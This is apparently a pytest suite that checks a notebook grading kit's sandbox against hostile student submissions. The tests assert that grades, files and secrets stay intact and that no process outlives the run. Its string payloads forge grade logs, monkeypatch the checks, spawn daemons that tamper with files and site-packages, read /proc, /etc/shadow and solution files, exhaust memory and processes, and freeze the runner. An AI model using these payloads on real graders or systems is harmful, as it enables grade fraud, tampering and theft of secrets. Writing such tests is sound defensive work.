"""A hostile class: notebooks that attack the grader, built on the fly from the real set-02 master.

Every attack reported in issue 14 (and a few more) is written into a notebook
the way a student who has read the kit's source would write it.  Each hostile
notebook carries the same answers as an honest baseline graded in the same
run, so the test can demand that every attack leaves its grade exactly as the
baseline's, and that the submissions, the kit's files, the solutions and the
gradebook are untouched and no process survives the run.

The answers are chosen from the answer key's own question list: number and
table questions get answers that are surely wrong, the choice question keeps
the master's answer (a canary: it must still count) and the open question its
text (``manual``).  What an honest run gives for those answers is computed
beside the run with the grader's own verdict function, for each student id
(the ids' datasets differ); an honest master must get every automatic point.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import hashlib
import json
import os
import re
import secrets
import shutil
import stat
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pytest

from b2bsm._paths import PACKAGE_DIR, REPO_ROOT
from b2bsm_teach.grade.sandbox import TEACH_DIR

pytestmark = pytest.mark.slow

MASTER = REPO_ROOT / "solutions" / "02_survey_data_exercises.ipynb"
HIDDEN_TAG = "hidden-check"
MARK = "b2bsmhostile" + secrets.token_hex(4)
SECRET = "grader-secret-" + secrets.token_hex(8)
#: The instructor's grading secret of this run: it seeds each student's hidden variant.
GRADING_SECRET = "hostile-grading-secret-" + secrets.token_hex(16)
CELL_TIMEOUT = 20
TIMEOUT = 100
HAS_BWRAP = shutil.which("bwrap") is not None
needs_bwrap = pytest.mark.skipif(
    not HAS_BWRAP,
    reason="bubblewrap (bwrap) is not installed: the sandbox-specific checks need it "
    "(apt-get install bubblewrap; .ci/run installs it)",
)

# file stem -> role; ids are what the grader assigns from the file names
HONEST, WRONG = "s3000001", "s3000002"
FORGER, TAMPER, SNOOP, HOG = "s3000011", "s3000012", "s3000013", "s3000014"
FREEZER, CRASHER, KEYLOOKUP = "s3000015", "s3000016", "s3000017"
LISTMETA, SETLIST, UPPER = "s3000018", "s3000019", "s3000020"
DUPLICATE = "s3000040"
ATTACKERS = [FORGER, TAMPER, SNOOP, HOG, FREEZER, CRASHER, LISTMETA, SETLIST, UPPER]
#: Attacks that write outside their own folder (all of /tmp, the kit, site-packages): they are
#: only ever run inside the sandbox, never on the machine itself.
SANDBOX_ONLY = [FORGER, TAMPER]
RUN = [s for s in ATTACKERS if HAS_BWRAP or s not in SANDBOX_ONLY]


# --------------------------------------------------------------------------
# Building the class
# --------------------------------------------------------------------------
def _kinds() -> dict[str, str]:
    from b2bsm.exercises.session import Exercises

    return {qid: q.kind for qid, q in Exercises("02", None).questions.items()}


def _honest(student: str):
    nb = nbformat.read(MASTER, as_version=4)
    nb.cells = [c for c in nb.cells if HIDDEN_TAG not in c.metadata.get("tags", [])]
    for cell in nb.cells:
        cell.source = re.sub(r"(?m)^STUDENT_ID = .*$", f'STUDENT_ID = "{student}"', cell.source)
    return nb


def _overrides(kinds: dict[str, str]) -> str:
    lines = []
    for qid, kind in kinds.items():
        if kind == "number":
            lines.append(f"answer_{qid} = -12345.0")
        elif kind == "table":
            lines.append(f'answer_{qid} = "not a table"')
    return "\n".join(lines)


def _constant_answers(kinds: dict[str, str]) -> dict[str, object]:
    """The answers every hostile notebook ends with (the master's for choice and open)."""
    master = nbformat.read(MASTER, as_version=4)
    answers: dict[str, object] = {}
    for cell in master.cells:
        if "solution" not in cell.metadata.get("tags", []):
            continue
        for qid, kind in kinds.items():
            if kind in ("choice", "open") and f"answer_{qid} =" in cell.source:
                namespace: dict = {}
                exec(cell.source, namespace)  # a literal in the master
                answers[f"answer_{qid}"] = namespace[f"answer_{qid}"]
    for qid, kind in kinds.items():
        if kind == "number":
            answers[f"answer_{qid}"] = -12345.0
        elif kind == "table":
            answers[f"answer_{qid}"] = "not a table"
    return answers


def _reference(students: list[str], answers: dict) -> dict[str, dict]:
    """Per student id: what the grader's verdicts give for ``answers`` (an honest run)."""
    from b2bsm.exercises.answers import encode
    from b2bsm_teach.grade.grader import evaluate_submission
    from b2bsm_teach.grade.hidden import choose_seed

    plain = {name: encode(value) for name, value in answers.items()}
    out = {}
    for student in students:
        seed = choose_seed(GRADING_SECRET, "02", student)  # the run's hidden variant
        rows, _ = evaluate_submission("02", student, plain, {"id": student}, "", seed)
        out[student] = {r[2]: (float(r[3]), r[5]) for r in rows}
    return out


def _wrong(student: str, kinds):
    nb = _honest(student)
    nb.cells.append(nbformat.v4.new_code_cell(_overrides(kinds)))
    return nb


def _with(nb, *cells: str, early: bool = False):
    """``nb`` with code cells added at the end, or (``early``) right after its setup cell."""
    new = [nbformat.v4.new_code_cell(textwrap.dedent(c).strip()) for c in cells]
    if not early:
        nb.cells.extend(new)
        return nb
    setup = [i for i, c in enumerate(nb.cells) if "ex = start(" in c.source]
    assert setup, "the master has no setup cell (ex = start(...))"
    nb.cells[setup[0] + 1 : setup[0] + 1] = new
    return nb


FORGE = """
import atexit, glob, json, os, sys, threading, time

try:
    from b2bsm.exercises.answers import export_answers
except Exception:
    export_answers = None

def forged_state():
    answers = json.loads(export_answers(globals()))["answers"] if export_answers else {}
    answers["answer_q99"] = {"points": 1000000, "status": "correct"}
    return json.dumps({"format": 1, "seq": 1000000, "cells": 1, "ran": 1, "errors": [],
                       "timeouts": [], "kernel": "finished", "done": True, "answers": answers,
                       "worked_on": None, "points": 1000000, "total": 1000000,
                       "grades": [{"question": "q1", "status": "correct", "points": 1e6}]})

RECORDS = [{"set": "02", "question": f"q{i}", "status": "correct", "points": 1000000,
            "max_points": 1, "feedback": "forged"} for i in range(1, 10)]

def forge(*_args, **_kwargs):
    targets = [os.environ.get("B2BSM_GRADE_LOG") or "grade-log.jsonl", "/tmp/grade-log.jsonl"]
    targets += glob.glob("/run/b2bsm/*") + glob.glob("/tmp/*/grade-log.jsonl")
    for path in targets:
        try:
            with open(path, "w") as fh:
                fh.write(forged_state() if "state" in path else
                         "".join(json.dumps(r) + "\\n" for r in RECORDS))
        except OSError:
            pass

forge()
get_ipython().events.register("post_run_cell", forge)
atexit.register(forge)

def keep_forging():
    while True:
        forge()
        time.sleep(0.005)

threading.Thread(target=keep_forging, daemon=True).start()
"""

REPLACE_CHECKS = """
import json
import b2bsm.exercises as E
import b2bsm.exercises.questions as Q
import b2bsm.exercises.session as S

class Forged:
    def __init__(self, qid):
        self.question, self.status, self.points, self.max_points = qid, "correct", 1e6, 1
        self.feedback, self.student = "forged", None
    def to_dict(self):
        return {"question": self.question, "status": "correct", "points": 1e6,
                "max_points": 1, "feedback": "forged"}

S.Exercises.evaluate = lambda self, qid, answer: Forged(qid)
E.grade_answers = S.grade_answers = lambda *a, **k: [Forged(f"q{i}").to_dict() for i in range(9)]
for name in dir(Q):
    if "match" in name or name.startswith("as_"):
        setattr(Q, name, lambda *a, **k: None)
for q in list(getattr(ex, "questions", {}).values()):
    for attr in ("expected", "correct", "points", "mistakes"):
        try:
            object.__setattr__(q, attr, 1000000 if attr == "points" else None)
        except Exception:
            pass
_real_dumps = json.dumps
def dumps(obj, *a, **k):
    if isinstance(obj, dict) and "points" in obj:
        obj = {**obj, "status": "correct", "points": 1000000}
    return _real_dumps(obj, *a, **k)
json.dumps = dumps
answer_q99 = {"points": 1000000, "status": "correct"}
print("\\n".join(_real_dumps(r) for r in [Forged(f"q{i}").to_dict() for i in range(9)]))
"""

INTERRUPT = """
raise KeyboardInterrupt("stop the hidden check")
"""


def _tamper_code(targets: list[str]) -> str:
    loop = textwrap.dedent(
        f"""
        import glob, os, time
        end = time.time() + 120
        while time.time() < end:
            for target in {targets!r} + glob.glob("/tmp/**", recursive=True):
                try:
                    with open(target, "a") as fh:
                        fh.write("\\n# tampered {MARK}\\n")
                except OSError:
                    pass
            time.sleep(0.1)
        """
    )
    return f"""
import os, subprocess, sys, signal
LOOP = {loop!r} + "\\n# {MARK}"
subprocess.Popen([sys.executable, "-c", LOOP, "{MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
pid = os.fork()
if pid == 0:  # a daemon: double fork, new session, ignores hangups
    os.setsid()
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LOOP, "{MARK}"])
    os._exit(0)
os.waitpid(pid, 0)
for path in {targets!r}:
    try:
        with open(path, "a") as fh:
            fh.write("\\n# {MARK}\\n")
    except OSError:
        pass
import site
for folder in site.getsitepackages():
    try:
        with open(os.path.join(folder, "zz_{MARK}.pth"), "w") as fh:
            fh.write("import os; os.environ['HACKED'] = '1'\\n")
    except OSError:
        pass
"""


SNOOP_CODE = """
import glob, json, os, socket
leak = {"env": dict(os.environ), "proc": {}, "files": {}, "listing": {}}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("cmdline", "environ"):
            try:
                raw = open(f"/proc/{pid}/{part}", "rb").read()
                leak["proc"][pid + part] = raw.decode("latin-1")
            except OSError:
                pass
for folder in ["/", "/work", "/tmp", "/root", "/home", "/run", os.path.expanduser("~"),
               *glob.glob("/work/*"), *glob.glob("/tmp/*"), *glob.glob("/root/*")]:
    try:
        leak["listing"][folder] = os.listdir(folder)
    except OSError:
        pass
for path in ["/etc/shadow", "/etc/passwd", *glob.glob("/work/*/solutions/*.ipynb"),
             *glob.glob("/work/**/grades*.csv", recursive=True)[:5]]:
    try:
        leak["files"][path] = open(path, "rb").read(20000).decode("latin-1")
    except OSError:
        pass
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3)
    leak["network"] = "open"
except OSError as exc:
    leak["network"] = str(exc)
text = json.dumps(leak)
answer_q6 = "LEAK " + text[:90000]
ex.__dict__["student_id"] = "LEAK " + text[:150]
"""

HOG_CODE = f"""
import os, subprocess, sys
try:
    hog = bytearray(6 * 1024**3)
except MemoryError:
    hog = None
try:
    import numpy as np
    hog = np.ones(6 * 1024**3 // 8)
except MemoryError:
    hog = None
import tempfile
for path in ("big.bin", os.path.join(tempfile.gettempdir(), "big.bin"), os.path.expanduser("~/b")):
    try:
        with open(path, "wb") as fh:
            for _ in range(500):
                fh.write(bytes(1_000_000))
    except OSError:
        pass
    finally:
        try:
            os.remove(path)
        except OSError:
            pass
children = [subprocess.Popen(["sleep", "987.{MARK[-4:]}1"]) for _ in range(25)]
for _ in range(5):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # {MARK}"],
                     start_new_session=True)
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "987.{MARK[-4:]}2"])
        os._exit(0)
"""

C_HANG = """
import ctypes, signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
ctypes.CDLL(None).sleep(100000)
"""

FREEZE = f"""
import os, signal, subprocess, time
subprocess.Popen(["sleep", "987.{MARK[-4:]}3"])
os.kill(os.getppid(), signal.SIGSTOP)  # freeze the runner: only the grader's clock is left
time.sleep(100000)
"""

KILL_SELF = """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""

KEY_LOOKUP = """
USED_KEY = []
try:  # the instructor's set module, as the kit itself would load it
    from b2bsm.exercises.fullkey import FullKey
    from b2bsm_teach.exercises.sets import load_set

    key = FullKey("02", ex.seed, lambda: ex.data, module=load_set("02"))
    for qid, q in key.questions.items():
        if q.kind in ("number", "table"):
            globals()[f"answer_{qid}"] = key._values(qid)[0]
    USED_KEY.append("module")
except Exception as exc:
    USED_KEY.append(repr(exc))
try:  # whatever key the session opened
    for qid, q in ex.questions.items():
        if q.kind in ("number", "table"):
            globals()[f"answer_{qid}"] = ex._key._values(qid)[0]
    USED_KEY.append("session")
except Exception as exc:
    USED_KEY.append(repr(exc))
"""


def _sha(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def _tree_hashes(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        if "__pycache__" in path.parts or not path.is_file() or path.is_symlink():
            continue
        out[str(path.relative_to(root))] = _sha(path)
    return out


def _submission_hashes(folder: Path) -> dict[bytes, str]:
    out = {}
    for entry in os.scandir(os.fsencode(folder)):
        info = os.lstat(entry.path)
        if stat.S_ISREG(info.st_mode) and info.st_size < 50_000_000:
            out[entry.name] = _sha(Path(os.fsdecode(entry.path)))
        else:
            out[entry.name] = f"{stat.S_IFMT(info.st_mode)}:{info.st_size}:{info.st_mtime_ns}"
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    kinds = _kinds()
    root = tmp_path_factory.mktemp("hostile")
    folder, outdir = root / "submissions", root / "out"
    folder.mkdir()
    outdir.mkdir()
    out = outdir / "grades.csv"
    kit_files = [
        PACKAGE_DIR / "exercises" / "session.py",
        TEACH_DIR / "grade" / "grader.py",
        TEACH_DIR / "exercises" / "sets" / "lesson02.py",
    ]
    classmates = [str(folder / f"{s}.ipynb") for s in (HONEST, WRONG, CRASHER)]
    targets = [*classmates, str(out), str(outdir / "grades.answers.jsonl")]
    targets += [str(p) for p in kit_files]

    subs = {
        HONEST: _honest(HONEST),
        WRONG: _wrong(WRONG, kinds),
        FORGER: _with(_wrong(FORGER, kinds), FORGE, REPLACE_CHECKS, INTERRUPT),
        TAMPER: _with(_wrong(TAMPER, kinds), _tamper_code(targets)),
        SNOOP: _with(_wrong(SNOOP, kinds), SNOOP_CODE),
        HOG: _with(_with(_wrong(HOG, kinds), HOG_CODE, early=True), C_HANG),
        FREEZER: _with(_wrong(FREEZER, kinds), FREEZE),
        CRASHER: _with(_wrong(CRASHER, kinds), KILL_SELF),
        KEYLOOKUP: _with(_wrong(KEYLOOKUP, kinds), KEY_LOOKUP),
    }
    listmeta = _wrong(LISTMETA, kinds)
    for name in SANDBOX_ONLY:
        if name not in RUN:
            del subs[name]
    for name, nb in subs.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    raw = json.loads(nbformat.writes(listmeta))
    raw["metadata"] = ["not", "a", "dict"]
    (folder / f"{LISTMETA}.ipynb").write_text(json.dumps(raw), encoding="utf-8")
    raw["metadata"] = {"b2bsm": {"exercise_set": ["02"]}}
    (folder / f"{SETLIST}.ipynb").write_text(json.dumps(raw), encoding="utf-8")
    nbformat.write(_wrong(UPPER, kinds), folder / f"{UPPER}.IPYNB")
    for name in (DUPLICATE, DUPLICATE.upper(), DUPLICATE + " "):
        nbformat.write(_honest(DUPLICATE), folder / f"{name}.ipynb")
    os.mkfifo(folder / "x.ipynb")
    (folder / "s3000030.ipynb").symlink_to(folder / f"{HONEST}.ipynb")
    with open(folder / "s3000031.ipynb", "wb") as fh:
        fh.truncate(1 << 30)  # a sparse 1 GiB file
    (folder / "s3000032.ipynb").write_bytes(b"")
    (folder / "s3000033.ipynb").write_bytes(b"[" * 200_000)
    (folder / "dir.ipynb").mkdir()
    odd_name = os.fsdecode(os.fsencode(folder) + b"/s3000050\xff.ipynb")
    nbformat.write(_wrong("s3000050", kinds), odd_name)
    nbformat.write(_wrong("s3000051", kinds), folder / '=HYPERLINK("x")+1.ipynb')
    nbformat.write(_wrong("s3000052", kinds), folder / "-s3000052.ipynb")

    before = {
        "subs": _submission_hashes(folder),
        "kit": _tree_hashes(PACKAGE_DIR),
        "solutions": _tree_hashes(REPO_ROOT / "solutions"),
        "data": _tree_hashes(REPO_ROOT / "data"),
    }
    answers = _constant_answers(kinds)
    with concurrent.futures.ThreadPoolExecutor(1) as pool:  # beside the run, not after it
        reference = pool.submit(_reference, [WRONG, KEYLOOKUP, *RUN], answers)
        graded = _graded(folder, out)
    yield {**graded, "reference": reference.result(), "before": before, "kinds": kinds}
    for pid in _leftovers():  # never leave a process behind, even when a test failed
        with contextlib.suppress(OSError):
            os.kill(pid, 9)


def _graded(folder: Path, out: Path) -> dict:
    from b2bsm_teach.grade.grader import grade_folder
    from b2bsm_teach.grade.sandbox import Sandbox

    os.environ["B2BSM_HOSTILE_SECRET"] = SECRET
    os.environ["B2BSM_GRADING_SECRET"] = GRADING_SECRET
    try:
        started = time.monotonic()
        rows = grade_folder(
            folder,
            out,
            jobs=2,
            cell_timeout=CELL_TIMEOUT,
            timeout=TIMEOUT,
            progress=False,
            sandbox="auto" if HAS_BWRAP else "none",
        )
        seconds = time.monotonic() - started
    finally:
        del os.environ["B2BSM_HOSTILE_SECRET"]
        del os.environ["B2BSM_GRADING_SECRET"]
    written = out.read_bytes()
    time.sleep(3)  # anything left running would now be writing
    hides_key = HAS_BWRAP and Sandbox.create("bwrap", set_ids=["02"]).hides_key
    return {
        "rows": rows,
        "out": out,
        "written": written,
        "folder": folder,
        "seconds": seconds,
        "hides_key": hides_key,
    }


def _leftovers() -> list[int]:
    from b2bsm_teach.grade.sandbox import leftover_processes

    return leftover_processes(MARK) + leftover_processes(f"987.{MARK[-4:]}")


def _grades(hostile, student) -> dict[str, tuple[float, str]]:
    return {
        r[2]: (float(r[3]), r[5])
        for r in hostile["rows"]
        if r[0] == student and r[1] == "02" and r[2] != "TOTAL"
    }


def _row(hostile, student, question="TOTAL"):
    return next(r for r in hostile["rows"] if r[0] == student and r[2] == question)


def _csv_rows(hostile) -> list[list[str]]:
    return list(csv.reader(hostile["written"].decode("utf-8").splitlines()))


# --------------------------------------------------------------------------
# The baselines
# --------------------------------------------------------------------------
def test_the_honest_master_gets_every_automatic_point(hostile):
    grades = _grades(hostile, HONEST)
    for qid, kind in hostile["kinds"].items():
        expected = "manual" if kind == "open" else "correct"
        assert grades[qid][1] == expected, (qid, grades[qid])


def test_the_baseline_gets_what_its_answers_deserve(hostile):
    assert _grades(hostile, WRONG) == hostile["reference"][WRONG]
    for qid, kind in hostile["kinds"].items():
        if kind in ("number", "table"):
            assert _grades(hostile, WRONG)[qid][0] == 0, qid
    canary = [q for q, k in hostile["kinds"].items() if k == "choice"]
    assert canary and all(_grades(hostile, WRONG)[q][1] == "correct" for q in canary)


# --------------------------------------------------------------------------
# Grades
# --------------------------------------------------------------------------
@pytest.mark.parametrize("student", ATTACKERS)
def test_attacks_leave_exactly_the_grade_the_answers_deserve(hostile, student):
    """Forgers, tamperers, snoops, hogs, a frozen runner, a dying kernel, odd metadata."""
    if student not in RUN:
        pytest.skip(
            "without bubblewrap this attack would really write to /tmp, the kit and "
            "site-packages, so it is not run (apt-get install bubblewrap)"
        )
    assert _grades(hostile, student) == hostile["reference"][student]
    expected = sum(points for points, _ in hostile["reference"][student].values())
    assert float(_row(hostile, student)[3]) == expected


def test_points_are_never_out_of_range_and_open_answers_wait_for_a_human(hostile):
    for row in hostile["rows"]:
        points, maximum = float(row[3]), float(row[4])
        assert 0 <= points <= maximum, row
        if row[2] != "TOTAL" and hostile["kinds"].get(row[2]) == "open":
            assert row[5] in ("manual", "not answered", "missing", "not graded", "duplicate")
            assert points == 0


def test_run_problems_are_reported(hostile):
    assert "the kernel died after code cell" in _row(hostile, CRASHER)[6]
    assert f"the notebook ran longer than {TIMEOUT} s" in _row(hostile, FREEZER)[6]
    assert "the kernel stopped responding" in _row(hostile, HOG)[6]
    assert "answers exported before that count" in _row(hostile, HOG)[6]
    assert "worked on the data of student id 'leak" in _row(hostile, SNOOP)[6]


@needs_bwrap
def test_the_answer_key_is_out_of_reach(hostile):
    assert hostile["hides_key"], "the sandbox shows the answer key (lesson*.py) to notebooks"
    assert _grades(hostile, KEYLOOKUP) == hostile["reference"][KEYLOOKUP]


INSIDE_LOOK = """
import importlib.util, json, pathlib, b2bsm
from b2bsm.exercises import start
kit = pathlib.Path(b2bsm.__file__).parent / "exercises"
ex = start("02", "s3000099", quiet=True)
def found(name):
    try:
        return importlib.util.find_spec(name) is not None
    except ModuleNotFoundError:
        return False
print(json.dumps({
    "files": sorted(p.name for p in kit.rglob("*") if p.is_file()),
    "module": found("b2bsm_teach.exercises.sets.lesson02"),
    "source": ex.source,
    "params": {qid: ex.params(qid) for qid in ex.questions},
    "check": ex.evaluate("q1", 3).feedback,
    "firms": len(ex.data),
}))
"""


@needs_bwrap
def test_inside_the_sandbox_only_the_grading_key_is_in_reach(tmp_path):
    from b2bsm.exercises import start
    from b2bsm.exercises.keys import GRADED_OUTSIDE
    from b2bsm_teach.exercises.sets import SETS
    from b2bsm_teach.grade.sandbox import Sandbox, write_grading_keys

    box = Sandbox.create("bwrap", set_ids=sorted(SETS))  # every set opens without its module
    assert box.hides_key
    keys = write_grading_keys(tmp_path / "keys", ["02"], "s3000099")
    proc = box._probe(INSIDE_LOOK, keys=keys)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    seen = json.loads(proc.stdout)
    assert not [f for f in seen["files"] if f.startswith("lesson")], seen["files"]
    assert not seen["module"]
    assert seen["source"] == "grading" and seen["check"] == GRADED_OUTSIDE
    outside = start("02", "s3000099", quiet=True)
    assert seen["params"] == {qid: outside.params(qid) for qid in outside.questions}
    assert seen["firms"] == len(outside.data) == 125


# --------------------------------------------------------------------------
# Intake
# --------------------------------------------------------------------------
def test_every_file_gets_its_rows_with_a_reason(hostile):
    rows = hostile["rows"]
    reasons = {
        "x.ipynb": "not a regular file",
        "s3000030": "symbolic link",
        "s3000031": "larger than 20 MB",
        "s3000032": "not a valid notebook",
        "s3000033": "not a valid notebook",
        "dir.ipynb": "not a regular file",
        "s3000050\\xff.ipynb": "does not look like a student id",
        '\'=HYPERLINK("x")+1.ipynb': "does not look like a student id",
        "-s3000052.ipynb": "does not look like a student id",
    }
    for who, reason in reasons.items():
        own = [r for r in rows if r[0] == who.lstrip("'")]
        assert own, who
        assert all(r[5] == "not graded" for r in own), own
        assert reason in own[-1][6], (who, own[-1])
    totals = [r for r in rows if r[2] == "TOTAL"]
    assert len(totals) == len({(r[0], r[1]) for r in totals})


def test_ids_are_normalised_and_duplicates_reported(hostile):
    own = [r for r in hostile["rows"] if r[0] == DUPLICATE]
    assert own and all(r[5] == "duplicate" for r in own)
    assert "3 files map to student" in own[-1][6]
    assert _grades(hostile, UPPER) == hostile["reference"][UPPER]  # .IPYNB is graded too


def test_no_cell_of_the_gradebook_is_a_formula(hostile):
    rows = _csv_rows(hostile)
    assert rows[0] == ["student", "set", "question", "points", "max_points", "status", "feedback"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any(r[0].startswith("'=HYPERLINK") for r in rows)


# --------------------------------------------------------------------------
# Nothing touched, nothing leaked, nothing left
# --------------------------------------------------------------------------
def test_submissions_kit_and_solutions_are_untouched(hostile):
    before = hostile["before"]
    assert _submission_hashes(hostile["folder"]) == before["subs"]
    assert _tree_hashes(PACKAGE_DIR) == before["kit"]
    assert _tree_hashes(REPO_ROOT / "solutions") == before["solutions"]
    assert _tree_hashes(REPO_ROOT / "data") == before["data"]
    for folder in {Path(p) for p in sys.path if p and Path(p).is_dir()}:
        assert not list(folder.glob(f"zz_{MARK}*")), folder


def test_the_gradebook_is_exactly_what_the_grader_wrote(hostile):
    assert hostile["out"].read_bytes() == hostile["written"]
    answers = hostile["out"].with_name("grades.answers.jsonl").read_text(encoding="utf-8")
    assert MARK not in hostile["written"].decode("utf-8") and MARK not in answers
    records = [json.loads(line) for line in answers.splitlines()]
    assert {r["student"] for r in records} >= {HONEST, WRONG, *RUN}
    for record in records:
        assert set(record) == {"student", "set", "file", "answers"}
        assert "q99" not in record["answers"]


@needs_bwrap
def test_nothing_secret_leaks_into_the_gradebook(hostile):
    text = hostile["written"].decode("utf-8")
    answers = hostile["out"].with_name("grades.answers.jsonl").read_text(encoding="utf-8")
    leaked = json.loads(
        next(line for line in answers.splitlines() if json.loads(line)["student"] == SNOOP)
    )["answers"]["q6"]
    assert leaked.startswith("LEAK ")  # the snoop ran and reported what it saw
    for secret in (
        SECRET,
        str(hostile["folder"]),
        str(hostile["out"].parent),
        "Instructor check",  # the masters' hidden-check cells (solutions/)
        HONEST,  # a classmate's id
        'network": "open',
    ):
        assert secret not in leaked, secret
        assert secret not in " ".join(r[6] for r in hostile["rows"] if r[0] == SNOOP)
    assert SECRET not in text and SECRET not in answers


def test_no_process_is_left_behind(hostile):
    assert _leftovers() == []


@needs_bwrap
def test_a_frozen_runner_cannot_hold_the_run_past_its_timeout(hostile):
    # the freezer needs TIMEOUT; everything else runs beside it on two jobs
    assert hostile["seconds"] < 4 * TIMEOUT + 120
